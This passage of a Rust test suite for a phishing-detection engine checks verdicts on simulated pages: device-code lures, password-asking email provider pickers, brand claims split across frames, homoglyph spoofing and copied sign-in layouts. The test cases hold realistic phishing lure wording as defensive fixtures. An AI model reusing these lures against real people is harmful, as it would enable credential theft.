    let v = engine.evaluate(&copy.snap, &copy.ctx);
    assert_eq!(v.level, Level::Danger);
    assert!(rules(&v).contains(&"origin.untrusted-host"));
    // Without the policy the same page is an ordinary login.
    assert_eq!(evaluate(&copy).level, Level::None);
}

#[test]
fn combine_frames() {
    let top = evaluate(&github_approval());
    let decoy_frame = evaluate(
        &page("https://ads.example.net/")
            .frame("https://github.com/login/oauth/authorize?client_id=x", 900.0, 700.0, 0.0, true)
            .framed_by(&["https://github.com"]),
    );
    let quiet_frame = evaluate(&checkout_with_card_frame().framed_by(&["https://github.com"]));
    assert_eq!(combine(&[top.clone(), quiet_frame.clone()]).level, Level::Genuine);
    let tab = combine(&[quiet_frame.clone(), top.clone(), decoy_frame.clone()]);
    assert_eq!(tab.level, Level::Danger);
    assert!(tab
        .findings
        .iter()
        .any(|f| f.rule.as_str() == "framing.decoy-frame"
            && f.evidence.iter().any(|e| e.value.contains("ads.example.net"))));
    // A frame's Genuine never makes the tab Genuine.
    let framed = evaluate(&github_sign_in().framed_by(&["https://github.com"]));
    assert_eq!(framed.level, Level::None);
    let ordinary_top = evaluate(&shop_login());
    assert_eq!(combine(&[ordinary_top, framed]).level, Level::None);
    assert_eq!(combine(&[]).level, Level::None);
}

#[test]
fn the_tab_is_judged_as_a_whole() {
    let rule_of = |v: &Verdict| v.findings.first().map(|f| f.rule.as_str().to_string());
    // The brand in the top document, the password in a frame of another origin.
    let brand_top =
        evaluate(&page("https://portal-x.example.com/").title("Sign in to your Microsoft account").logo("Microsoft"));
    assert_eq!(brand_top.level, Level::None, "a claim alone asks for nothing");
    let password_frame = evaluate(
        &page("https://forms.example.net/f")
            .form("https://forms.example.net/f", "")
            .password("Password")
            .framed_by(&["https://portal-x.example.com"]),
    );
    assert_eq!(password_frame.level, Level::None, "a password alone imitates nobody");
    let tab = combine(&[brand_top.clone(), password_frame.clone()]);
    assert_eq!(tab.level, Level::Danger);
    assert_eq!(rule_of(&tab).as_deref(), Some("frames.claim-and-ask"));
    assert_eq!(tab.provider.as_deref(), Some("microsoft"));
    // The same password frame under a page that claims nobody stays quiet.
    let shop_top = evaluate(&page("https://shop.example.com/").title("Outdoor gear"));
    assert_eq!(combine(&[shop_top, password_frame.clone()]).level, Level::None);

    // A genuine provider page with a frame of another origin asking for a password.
    let genuine = evaluate(&microsoft_sign_in());
    assert_eq!(genuine.level, Level::Genuine);
    let tab = combine(&[genuine.clone(), password_frame]);
    assert_eq!(tab.level, Level::Danger);
    assert_eq!(rule_of(&tab).as_deref(), Some("frames.credential-frame"));
    // The same page with a frame that asks for no password stays genuine.
    let card = evaluate(&checkout_with_card_frame().framed_by(&["https://login.microsoftonline.com"]));
    assert_eq!(combine(&[genuine, card]).level, Level::Genuine);
}

/// A drawer of the top document that asks for a provider's account above a frame holding only
/// the fields, on a site that names itself in its title and header.
fn account_drawer(host: &str, own: &str, line: &str) -> Page {
    page(&format!("https://{host}/s/board-minutes/"))
        .title(&format!("board-minutes - {own}"))
        .banner(&format!("{own} · board-minutes (shared folder, 700 items)"))
        .heading("Sign in")
        .text_line(line)
        .frame(&format!("https://{host}/s/board-minutes/fields.html"), 360.0, 200.0, 1.0, true)
}

/// A frame of bare fields: an email and a password, a "Next" button, no name of its own.
fn bare_fields(url: &str, parents: &[&str]) -> Page {
    page(url).title(".").form(url, "").email().password("Enter your password").buttons(&["Next"]).framed_by(parents)
}

#[test]
fn an_account_line_claims_for_the_bare_fields_of_another_frame() {
    let engine = Engine::new(Policy::default());
    let judge = |p: &Page| engine.evaluate(&p.snap, &p.ctx);
    let top = judge(&account_drawer(
        "driveboard-share.net",
        "Driveboard",
        "Use your Google Account to continue to Google Drive",
    ));
    assert_eq!(top.level, Level::None, "a line alone asks for nothing: {top:#?}");
    assert!(top.facts.claims.is_empty(), "beside the site's own brand the line is no claim of its own");
    assert_eq!(top.facts.account_claims, ["google"]);
    let fields = judge(&bare_fields(
        "https://driveboard-share.net/s/board-minutes/fields.html",
        &["https://driveboard-share.net"],
    ));
    assert_eq!(fields.level, Level::None, "bare fields alone imitate nobody");
    assert!(fields.facts.bare);
    let tab = combine(&[top.clone(), fields.clone()]);
    assert_eq!(tab.level, Level::Danger, "{tab:#?}");
    assert_eq!(tab.provider.as_deref(), Some("google"));
    assert_eq!(tab.findings[0].rule.as_str(), "frames.claim-and-ask");
    // The fields in a frame of the attacker's other host, two levels below the line.
    let middle = judge(
        &page("https://driveboard-share.net/s/board-minutes/pane.html")
            .title(".")
            .frame("https://forms-relay.example/f", 360.0, 200.0, 1.0, true)
            .framed_by(&["https://driveboard-share.net"]),
    );
    let far = judge(&bare_fields(
        "https://forms-relay.example/f",
        &["https://driveboard-share.net", "https://driveboard-share.net"],
    ));
    assert_eq!(combine(&[top.clone(), middle, far]).level, Level::Danger);
    // Microsoft's and GitHub's sign-in subtitles.
    for (line, id) in
        [("Use your Microsoft account to continue", "microsoft"), ("Use your GitHub account to continue", "github")]
    {
        let top = judge(&account_drawer("teamroom-files.net", "Teamroom", line));
        assert_eq!(top.facts.account_claims, [id], "{line}");
        let tab =
            combine(&[top, judge(&bare_fields("https://teamroom-files.net/f.html", &["https://teamroom-files.net"]))]);
        assert_eq!((tab.level, tab.provider.as_deref()), (Level::Danger, Some(id)), "{line}");
    }

    // Look-alikes that stay quiet.
    // A frame that names itself (a comment system's or a chat widget's own login) is not bare.
    let widget = judge(
        &page("https://comments.example-widget.net/login")
            .title("Log in to Remark Box")
            .heading("Log in to Remark Box")
            .form("https://comments.example-widget.net/login", "")
            .email()
            .password("Password")
            .framed_by(&["https://driveboard-share.net"]),
    );
    assert!(!widget.facts.bare);
    assert_eq!(combine(&[top.clone(), widget]).level, Level::None);
    // A top frame that asks for the password itself is judged as a page, and claims nothing of a frame.
    let asks_itself = judge(
        &account_drawer("driveboard-share.net", "Driveboard", "Use your Google Account to continue to Google Drive")
            .form("https://driveboard-share.net/s/auth", "")
            .email(),
    );
    assert!(asks_itself.facts.account_claims.is_empty());
    // "Sign in with Google" names Google as the way in, not the account asked for.
    let federation = judge(&account_drawer("driveboard-share.net", "Driveboard", "Sign in with Google"));
    assert!(federation.facts.account_claims.is_empty() && federation.facts.claims.is_empty());
    assert_eq!(combine(&[federation, fields.clone()]).level, Level::None);
    // A header that merely names a provider.
    let partner = judge(&account_drawer("driveboard-share.net", "Driveboard", "Driveboard, a Google Cloud partner"));
    assert!(partner.facts.account_claims.is_empty());
    assert_eq!(combine(&[partner, fields.clone()]).level, Level::None);
    // A docs page whose screenshot caption quotes the subtitle, above a demo frame of bare fields.
    let docs =
        judge(&account_drawer("driveboard-share.net", "Driveboard", "Screenshot: Use your Google Account to continue"));
    assert!(docs.facts.account_claims.is_empty(), "{:?}", docs.facts);
    assert_eq!(combine(&[docs, fields.clone()]).level, Level::None);
    // The line with no frame on the page: nothing to claim for.
    let mut frameless = account_drawer("driveboard-share.net", "Driveboard", "Use your Google Account");
    frameless.snap.frames.clear();
    assert!(judge(&frameless).facts.account_claims.is_empty());
    // Google's own page framed under the line is framing's to judge (`framing.genuine-in-frame`),
    // not a claim for Google's own fields.
    let on_google = judge(&bare_fields("https://accounts.google.com/f", &["https://driveboard-share.net"]));
    let tab = combine(&[top, on_google]);
    assert!(!rules(&tab).contains(&"frames.claim-and-ask"), "{:?}", rules(&tab));
}

#[test]
fn lures() {
    let device = "To finish setting up your TV, go to microsoft.com/devicelogin and enter the code HQ7-KD2P.";
    let picker = || {
        page("https://mail-portal.example.net/")
            .buttons(&["Office 365", "Outlook", "Gmail", "Yahoo", "Other mail"])
            .form("https://mail-portal.example.net/p", "")
            .password("Password")
    };
    check(vec![
        case(
            "device-code lure on another host",
            page("https://tv-activation-help.example/").title("Activate").text(device),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "GitHub's device page written as a lure",
            page("https://ci-token-refresh.example/")
                .text("Open https://github.com/login/device and type the code 8F2A-91C3 to refresh your token."),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "a user code with no word for it, at Google's device page",
            page("https://tv-pairing.example/pair")
                .title("Sign in")
                .text("To open the shared folder on this screen, go to google.com/device on your phone and enter: GTH-KLP-QWX"),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "a TV app that only names Google's device page, with no code",
            page("https://tv-app.example/help")
                .text("On your TV, open the app and go to google.com/device on your phone when it asks. Version ISO-9"),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "the provider's own documentation",
            page("https://learn.microsoft.com/en-us/entra/device-code").text(device),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a long article explaining the flow",
            page("https://blog.example.org/device-flow")
                .text(&format!("{device} {}", "The device flow lets a TV sign in. ".repeat(60))),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a Teams lure padded with a long agenda, read around the device page's address",
            page("https://room-checkin-portal.example/join")
                .title("Join your Teams meeting")
                .banner("Microsoft Teams")
                .heading("Join your meeting")
                .text(&format!(
                    "Microsoft Teams\nJoin your meeting\nTo join, open microsoft.com/devicelogin and enter this code:\nK7QH-9XWP\nCopy code\n{}",
                    "Agenda item: quarterly planning and budget review for the team. ".repeat(40)
                )),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "a long guide with a terminal transcript and its code, claiming no provider",
            page("https://docs.tidewater-cli.example/auth")
                .title("Authenticating the CLI")
                .heading("Sign in from a terminal")
                .text(&format!(
                    "Sign in from a terminal\n$ tw login --device\nTo sign in, use a web browser to open the page \
                     https://microsoft.com/devicelogin and enter the code K7QH9XWP to authenticate.\n{}",
                    "The command stores a refresh token in the system keychain. ".repeat(40)
                )),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a short CLI page quoting the command and its output (a transcript)",
            page("https://docs.skyforge-cli.example/auth/device-code")
                .title("Sign in with a device code | Skyforge CLI")
                .heading("Sign in with a device code")
                .text(
                    "Sign in with a device code\n$ skyforge login --use-device-code\nTo sign in, use a web browser \
                     to open the page https://microsoft.com/devicelogin and enter the code FQ8K2XTLM to \
                     authenticate.\nWaiting for authentication...",
                ),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a transcript whose lines the page's text runs together",
            page("https://docs.skyforge-cli.example/auth/device-code")
                .title("Sign in with a device code | Skyforge CLI")
                .text(
                    "Sign in with a device code\n$ skyforge login --use-device-code To sign in, use a web browser \
                     to open the page https://microsoft.com/devicelogin and enter the code FQ8K2XTLM to \
                     authenticate. Waiting for authentication...\nOpen the address on any device.",
                ),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a PowerShell transcript of GitHub's device flow",
            page("https://docs.repokit.example/auth")
                .title("repokit auth login")
                .text(
                    "repokit auth login\nPS C:\\Users\\ana> repokit auth login --web\n! First copy your one-time \
                     code: 3C7A-91DF\nPress Enter to open https://github.com/login/device in your browser...",
                ),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "the same output with no command line above it is addressed to the reader",
            page("https://skyforge-signin.example/auth")
                .title("Sign in with a device code")
                .text(
                    "Sign in with a device code\nTo sign in, use a web browser to open the page \
                     https://microsoft.com/devicelogin and enter the code FQ8K2XTLM to authenticate.\nWaiting \
                     for authentication...",
                ),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "a prompt sign with no command after it is no transcript",
            page("https://skyforge-signin.example/join")
                .title("Join")
                .text(
                    "$ Action required\n> Next step\nOpen https://microsoft.com/devicelogin and enter the code \
                     FQ8K2XTLM to join.",
                ),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "a long page presenting itself as Microsoft whose code is a sample named elsewhere",
            page("https://teams-room-help.example/guide")
                .title("Microsoft Teams Rooms")
                .banner("Microsoft Teams")
                .heading("Set up your room")
                .text(&format!(
                    "Microsoft Teams\nSet up your room\nThe console shows a code such as K7QH-9XWP.\nOpen microsoft.com/devicelogin and enter it:\nK7QH-9XWP\n{}",
                    "Rooms sign in with a resource account. ".repeat(60)
                )),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a lure that gives its code after the address",
            page("https://teams-meeting-verify.example/join")
                .title("Join your Teams meeting")
                .text("To continue, open microsoft.com/devicelogin in a new tab and enter this code: K7QH9XWP"),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "a help article whose code is a sample, drawn again in a figure",
            page("https://it.fabrikam-freight.example/kb/teams-room")
                .title("Sign in a Teams Room device")
                .text(
                    "Sign in a Teams Room device\nOn the room console, choose Sign in on another device. It shows \
                     a code such as F7KQ-2XPL.\nOn your laptop, open https://microsoft.com/devicelogin. You will \
                     see:\nMicrosoft\nEnter code\nEnter the code displayed on your app or device.\nF7KQ-2XPL\nNext",
                ),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a lure that calls one code a sample and gives another",
            page("https://teams-meeting-verify.example/join").text(
                "Codes look like, for example, ABCD-1234. Open microsoft.com/devicelogin and enter this code: K7QH-9XWP",
            ),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "a help article whose sample code is printed in groups split by a space",
            page("https://help.northpine-it.example/kb/device-code-sign-in")
                .title("Device code sign-in")
                .text(
                    "Sign in to a Teams Room or TV app with a code\nOn your phone, open microsoft.com/devicelogin \
                     and type the code shown on the device.\nMicrosoft\nEnter code\ne.g. F7K2 9QPL\nNever enter a \
                     code someone sends you.",
                ),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a lure whose code is printed in groups split by a space",
            page("https://tv-activation-help.example/")
                .text("To keep access, open microsoft.com/devicelogin and enter the code F7K2 9QPL now."),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case(
            "a credential helper's docs naming GitHub's device page beside its own token box, no code",
            page("https://docs.tarnhaven.example/git/credential-helper")
                .text("On first push the helper opens your browser at GitHub's device page (https://github.com/login/device) and shows a code. Or paste a token here:")
                .form("https://docs.tarnhaven.example/helper/store", "Host Username Token")
                .password("Token"),
            Level::None,
            &[],
            &["lure.device-code"],
        ),
        case(
            "a device-code lure with a password box beside the code it gives",
            page("https://ci-token-refresh.example/")
                .text("Open https://github.com/login/device and type the code 8F2A-91C3 to refresh your token.")
                .form("https://ci-token-refresh.example/p", "Password")
                .password("Password"),
            Level::Danger,
            &["lure.device-code"],
            &[],
        ),
        case("e-mail provider picker asking for a password", picker(), Level::Danger, &["lure.provider-picker"], &[]),
        case(
            "a quiz naming mail providers in its captions beside an employee ID and PIN login",
            page("https://training.safeharbor.example/quiz/m365")
                .text("Card A: the Microsoft 365 sign-in. Card B: \"to continue to Gmail\". Tip: personal accounts sign in at login.live.com; Outlook too.")
                .form("https://training.safeharbor.example/login", "Employee ID Training PIN")
                .input(InputKind::Identifier, "q-user", "employee_id", "Employee ID")
                .password("Training PIN"),
            Level::None,
            &[],
            &["lure.provider-picker"],
        ),
        case(
            "a CRM's mailbox connect rows above its own IMAP form with an app password",
            page("https://crm.pipelark.example/admin/integrations/mail")
                .buttons(&["Connect", "Connect", "Set up", "Test connection"])
                .text("Gmail / Google Workspace\nMicrosoft 365 / Outlook\nOther (IMAP)\nServer, username and app password")
                .form("https://crm.pipelark.example/admin/integrations/mail", "IMAP settings IMAP server Username App password")
                .password("App password"),
            Level::None,
            &[],
            &["lure.provider-picker"],
        ),
        case(
            "a webmail's Gmail and Outlook.com connect buttons above its own IMAP form",
            page("https://mail.postfach.example/settings/external-accounts")
                .buttons(&["Mit Google verbinden", "Mit Microsoft verbinden", "Hinzuf\u{fc}gen"])
                .text("Externe Postf\u{e4}cher abrufen\nGmail\nOutlook.com / Hotmail\nAnderer Anbieter (IMAP)")
                .form("https://mail.postfach.example/settings/external", "IMAP-Server Benutzer Passwort")
                .password("Passwort"),
            Level::None,
            &[],
            &["lure.provider-picker"],
        ),
        case(
            "the same tiles above an IMAP-looking form asking for the Outlook password",
            page("https://mail.postfach.example/settings/external-accounts")
                .buttons(&["Gmail", "Outlook.com / Hotmail", "Office 365"])
                .form("https://mail.postfach.example/settings/external", "IMAP Outlook password")
                .password("Outlook password"),
            Level::Danger,
            &["lure.provider-picker"],
            &[],
        ),
        case(
            "a picker whose password box is called an app password, with no mail server to set up",
            page("https://mail-portal.example.net/")
                .buttons(&["Office 365", "Outlook", "Gmail", "Yahoo", "Other mail"])
                .form("https://mail-portal.example.net/p", "Email App password")
                .password("App password"),
            Level::Danger,
            &["lure.provider-picker"],
            &[],
        ),
        case(
            "another site's sign-in buttons with a password",
            page("https://forge.example.org/users/sign_in")
                .buttons(&["GitHub", "Google", "Bitbucket"])
                .form("https://forge.example.org/users/sign_in", "")
                .password("Password"),
            Level::None,
            &[],
            &["lure.provider-picker"],
        ),
        case(
            "a forum thread naming mail providers beside the forum's own login",
            page("https://community.tarnbrook.example/t/outlook-gmail-sync/4410")
                .title("Outlook and Gmail sync - Tarnbrook Community")
                .heading("Log in to Tarnbrook Community")
                .text_line("The Gmail app keeps asking for my password.")
                .text_line("My Microsoft 365 account syncs fine.")
                .text_line("Outlook on the desktop, and the Google Workspace sync.")
                .buttons(&["Log in to Tarnbrook Community", "Continue with Google"])
                .form("https://community.tarnbrook.example/session", "Email Password")
                .email()
                .password("Password"),
            Level::None,
            &[],
            &["lure.provider-picker"],
        ),
        case(
            "a picker under a heading that logs in to the site itself, asking for the tile's password",
            page("https://signflow-review.net/envelope/77")
                .heading("Log in to SignFlow")
                .buttons(&["Office 365", "Outlook", "Gmail", "Other mail"])
                .form("https://signflow-review.net/p", "Email Gmail password")
                .email()
                .password("Gmail password"),
            Level::Danger,
            &["lure.provider-picker"],
            &[],
        ),
        case(
            "a mail client's provider list with no password",
            page("https://mailclient.example.org/setup").buttons(&["Outlook", "Gmail", "Yahoo"]),
            Level::None,
            &[],
            &["lure.provider-picker"],
        ),
    ]);
}

/// A device-code lure that names a provider signing in through another's device page (Azure
/// DevOps through Microsoft's) is about that provider; one that names nobody is about the page's owner.
#[test]
fn device_code_lures_name_the_imitated_provider() {
    let agent = "Your self-hosted agent build-07 lost access to the Azure DevOps organization northbridge. \
                 Re-authorize it: go to microsoft.com/devicelogin and enter D7NQ-4XKA";
    let v = evaluate(
        &page("https://build-agent-reauth.example/agent").title("Azure DevOps").heading("Azure DevOps").text(agent),
    );
    assert_eq!(v.level, Level::Danger);
    assert_eq!(rules(&v), ["lure.device-code"]);
    assert_eq!(v.provider.as_deref(), Some("azure-devops"));
    assert_eq!(v.findings[0].params[0], "Azure DevOps");
    assert_eq!(v.findings[0].params[1], "microsoft.com/devicelogin");
    // The code run into the next element's words, as a page's text joins them.
    let glued = "Azure DevOps\nYour agent lost access. Re-authorize it: go to microsoft.com/devicelogin and enter\nD7NQ-4XKARe-authorize agent";
    let v = evaluate(&page("https://build-agent-reauth.example/agent").title("Azure DevOps").text(glued));
    assert_eq!((v.level, v.provider.as_deref()), (Level::Danger, Some("azure-devops")), "{:?}", v.findings);
    // Capitals run into words with no digit are no code ("USA-TODAYnews").
    let v = evaluate(&page("https://news.example/").text("Go to microsoft.com/devicelogin, said USA-TODAYnews"));
    assert_eq!(v.level, Level::None, "{:?}", v.findings);
    // The same lure naming nobody is Microsoft's device page.
    let v = evaluate(
        &page("https://build-agent-reauth.example/agent")
            .text("Your build agent lost access. Re-authorize it: go to microsoft.com/devicelogin and enter D7NQ-4XKA"),
    );
    assert_eq!(v.provider.as_deref(), Some("microsoft"));
    // A lure naming GitHub while sending to Microsoft's page is about Microsoft's page: GitHub has a device page of its own.
    let v = evaluate(
        &page("https://gh-agent.example/")
            .heading("GitHub")
            .text("Go to microsoft.com/devicelogin and enter D7NQ-4XKA"),
    );
    assert_eq!(v.findings[0].params[0], "Microsoft");
}

/// A school's help page on Google Sites that names Google: a form with a name and an e-mail box.
fn gsites_help() -> Page {
    page("https://sites.google.com/view/maplewood-tech/help")
        .title("Maplewood Middle School - Tech help")
        .heading("Google Workspace help desk")
        .text_line("Trouble with your Google account? Send us a message.")
        .form("https://sites.google.com/view/maplewood-tech/help", "Name Email Message")
        .input(InputKind::Other, "", "name", "Name")
        .email()
}

/// A top-frame certificate failure: no page loaded, so the worker sends an empty snapshot.
#[test]
fn certificate_failure_without_a_page() {
    let engine = Engine::new(Policy::default());
    let empty = consent_guard::PageSnapshot::default();
    let ctx = |url: &str| consent_guard::PageContext {
        url: url.into(),
        top_frame: true,
        cert_error: Some("net::ERR_CERT_AUTHORITY_INVALID".into()),
        policy_read: true,
        snapshot_error: None,
        snapshot_reason: None,
    };
    let v = engine.evaluate(&empty, &ctx("https://login.microsoftonline.com/common/oauth2/v2.0/authorize"));
    assert_eq!(v.level, Level::Danger);
    assert_eq!(rules(&v), ["https.certificate-error"]);
    assert_eq!(v.findings[0].params, ["login.microsoftonline.com", "net::ERR_CERT_AUTHORITY_INVALID"]);
    let v = engine.evaluate(&empty, &ctx("https://build.intranet.example/"));
    assert_eq!(v.level, Level::None, "{v:#?}");
}

#[test]
fn an_unread_policy_is_never_better_than_caution() {
    let mut genuine = github_sign_in();
    genuine.ctx.policy_read = false;
    let v = evaluate(&genuine);
    assert_eq!(v.level, Level::Caution);
    assert_eq!(v.error.as_ref().map(|e| e.kind), Some(ErrorKind::PolicyNotRead));
    assert_eq!(support::summary_text(&v), "Could not verify this page");
    let mut spoof = microsoft_copy("https://secure-login.example.net/auth");
    spoof.ctx.policy_read = false;
    assert_eq!(evaluate(&spoof).level, Level::Danger, "a danger stays danger");
}

#[test]
fn a_rejected_snapshot_runs_the_host_rules_only() {
    let mut genuine = github_sign_in();
    genuine.ctx.snapshot_error = Some("the page snapshot is too large".into());
    let v = evaluate(&genuine);
    assert_eq!(v.level, Level::Caution);
    assert_eq!(v.error.as_ref().map(|e| e.kind), Some(ErrorKind::SnapshotRejected));
    assert_eq!(v.error.as_ref().and_then(|e| e.reason), None, "no reason named, none said");
    // Why, in words, where the worker names it: kept in the verdict and in its JSON.
    genuine.ctx.snapshot_reason = Some(ErrorReason::TooLarge);
    let v = evaluate(&genuine);
    assert_eq!(v.error.as_ref().and_then(|e| e.reason), Some(ErrorReason::TooLarge));
    use consent_guard::json::ToJson;
    let json: serde_json::Value = serde_json::from_str(&v.to_json()).unwrap();
    assert_eq!(json["error"]["reason"], "error_reason_too_large");
    assert_eq!(v.to_json(), serde_json::to_string(&v).unwrap());
    // The host rules still run on the URL: a look-alike host that asks nothing is caution anyway,
    // and a provider host over http is danger.
    let mut http = page("http://github.com/login");
    http.ctx.snapshot_error = Some("unreadable".into());
    let v = evaluate(&http);
    assert_eq!(v.level, Level::Danger);
    assert_eq!(rules(&v), ["https.not-https"]);
}

/// A sign-in form off the providers' hosts: `url` with a title, an e-mail box and a password.
fn bare_sign_in(url: &str, title: &str) -> Page {
    page(url).title(title).form(url, "Email or phone Password").email().password("Password").buttons(&["Sign in"])
}

#[test]
fn brand_text_below_the_form_is_a_claim_and_a_mention_is_not() {
    check(vec![
        case(
            "copyright line far below the form",
            bare_sign_in("https://document-center-online.com/", "Sign in to your account")
                .text_line("\u{a9}2026 Microsoft \u{b7} Terms of use \u{b7} Privacy & cookies"),
            Level::Danger,
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "GitHub's copyright with Inc.",
            bare_sign_in("https://pr-review-required.dev/session", "Sign in")
                .text_line("\u{a9} 2026 GitHub, Inc. \u{b7} Terms \u{b7} Privacy"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "product name as a line of text",
            bare_sign_in("https://drive-shared-docs.net/file/d/1x", "Shared file").text_line("Google Drive"),
            Level::Danger,
            &["origin.untrusted-host"],
            &[],
        ),
        case(
            "a footer naming a supplier",
            bare_sign_in("https://shop.example-outdoors.com/account/login", "Sign in")
                .text_line("Payments powered by Google Pay \u{b7} Terms \u{b7} Privacy"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "an article sentence naming a provider",
            bare_sign_in("https://forum.example.org/login", "Sign in")
                .text_line("Last week Microsoft announced a new version of its mail app for phones"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "provider names in another identity provider's buttons",
            bare_sign_in("https://id.acme-corp.com/realms/acme/login", "Sign in to ACME Corp")
                .text_line_in("Microsoft", "Microsoft")
                .text_line_in("GitHub", "GitHub"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a federation icon titled \"Sign in using Microsoft\"",
            bare_sign_in("https://accounts.zoho.example/signin", "Accounts")
                .logo_in("Microsoft", "Sign in using Microsoft"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
    ]);
}

#[test]
fn capital_homoglyphs_spell_the_brand() {
    check(vec![
        case(
            "Cyrillic capital M and small i, c, o",
            bare_sign_in(
                "https://account-protection-center.com/",
                "Sign in to your \u{041C}\u{0456}\u{0441}r\u{043E}s\u{043E}ft account",
            ),
            Level::Danger,
            &["branding.disguised", "origin.untrusted-host"],
            &[],
        ),
        case(
            "Greek capital Eta in GitHub",
            bare_sign_in("https://org-invitation-accept.com/login", "Sign in")
                .banner("Sign in to G\u{0456}t\u{0397}ub"),
            Level::Danger,
            &["branding.disguised", "origin.untrusted-host"],
            &[],
        ),
        case(
            "a Cyrillic word that only shares letters",
            bare_sign_in(
                "https://shop.example.ru/login",
                "\u{041C}\u{0438}\u{0440} \u{2014} \u{0412}\u{0445}\u{043E}\u{0434}",
            ),
            Level::None,
            &[],
            &["branding.disguised", "origin.untrusted-host"],
        ),
    ]);
}

#[test]
fn a_providers_layout_with_another_companys_logo_is_a_claim() {
    let tenant = |url: &str| {
        bare_sign_in(url, "Sign in to your account")
            .banner("\u{25c6} Northwind Traders")
            .text("\u{25c6} Northwind Traders\nSign in\nForgot my password Sign in")
    };
    check(vec![
        case(
            "Microsoft's layout with Northwind's logo",
            tenant("https://northwind-payroll.com/"),
            Level::Danger,
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "another company's sign-in page with some of the same words",
            bare_sign_in("https://id.acme-corp.com/login", "Sign in to your account")
                .text("ACME Corp\nSign in to your account\nForgot Password?"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "the layout's words without a form",
            page("https://help.example.org/faq")
                .title("Sign in to your account")
                .text("Email or phone: type the address. Forgot my password: use the link."),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
    ]);
    let v = evaluate(&tenant("https://northwind-payroll.com/"));
    assert_eq!(v.provider.as_deref(), Some("microsoft"));
}

#[test]
fn tenant_branded_steps_of_each_layout_are_claims() {
    // Microsoft's password step: the company's logo, "Enter password" and Microsoft's links and footer.
    let password_step = |url: &str| {
        page(url)
            .title("Sign in to your account")
            .banner("Northbridge")
            .heading("Enter password")
            .form(url, "Password Forgot my password Sign in with another account")
            .password("Password")
            .buttons(&["Sign in"])
            .text("Northbridge\nj.doe@northbridge-logistics.com\nEnter password\nForgot my password\nSign in with another account\nTerms of use Privacy & cookies")
    };
    // Google's identifier step with the company's name in place of Google's.
    let google_step = |url: &str| {
        page(url)
            .title("Sign in")
            .heading("Sign in")
            .form(url, "Email or phone Enter your password Forgot email?")
            .input(InputKind::Identifier, "e", "email", "Email or phone")
            .input(InputKind::Password, "gp", "password", "Enter your password")
            .buttons(&["Next"])
            .text("Sign in\nUse your northbridge Account\nForgot email?\nNot your computer? Use Guest mode to sign in privately.\nCreate account")
    };
    check(vec![
        case(
            "Microsoft's password step with a company's logo",
            password_step("https://northbridge-mail-verify.example/owa/auth/password"),
            Level::Danger,
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "Google's sign-in step with a company's name",
            google_step("https://northbridge-workspace-login.example/signin/identifier"),
            Level::Danger,
            &["origin.untrusted-host", "credentials.prompt-off-origin"],
            &[],
        ),
        case(
            "a company's own password step that shares one phrase",
            page("https://portal.copperline-it.example/login")
                .title("Client portal")
                .heading("Enter password")
                .form("https://portal.copperline-it.example/login", "Password Reset password")
                .password("Password")
                .buttons(&["Sign in to your tickets"])
                .text("Copperline IT\nMicrosoft Solutions Partner\nEnter password\nReset password\nPrivacy & cookies"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
        case(
            "a reseller's billing login under Google Workspace plans",
            page("https://www.gridlake-cloud.example/google-workspace")
                .title("Google Workspace plans - gridlake cloud")
                .heading("Existing customer?")
                .form("https://www.gridlake-cloud.example/billing/login", "Customer number Password")
                .input(InputKind::Identifier, "", "account", "Customer number")
                .password("Password")
                .buttons(&["Open billing portal"])
                .text("Gmail, Drive, Meet and Calendar on your own domain\nEmail or phone support\nCreate account"),
            Level::None,
            &[],
            &["origin.untrusted-host"],
        ),
    ]);
    let v = evaluate(&password_step("https://northbridge-mail-verify.example/owa/auth/password"));
    assert_eq!(v.provider.as_deref(), Some("microsoft"));
    let v = evaluate(&google_step("https://northbridge-workspace-login.example/signin/identifier"));
    assert_eq!(v.provider.as_deref(), Some("google"));
}

/// Azure DevOps signs in on Microsoft's pages: a copy of Microsoft's sign-in that names Azure
/// DevOps's products, sits on a host made of their words or on its sign-in path imitates Azure DevOps.
#[test]
fn microsofts_layout_for_azure_devops_is_azure_devops() {
    let layout = |url: &str| {
        page(url)
            .title("Sign in to your account")
            .heading("Sign in to continue")
            .form(url, "Email, phone, or Skype Password Can't access your account?")
            .email()
            .password("Password")
            .buttons(&["Sign in"])
    };
    let suite = "northbridge\nSign in to continue\nYour organization northbridge requires you to sign in again to keep access to Boards, Repos, Pipelines, Test Plans and Artifacts.";
    let cases = [
        (layout("https://devops-northbridge.example/").text(suite), "azure-devops"),
        (layout("https://northbridge-login.example/_signin"), "azure-devops"),
        (layout("https://boards-signin-portal.com/"), "azure-devops"),
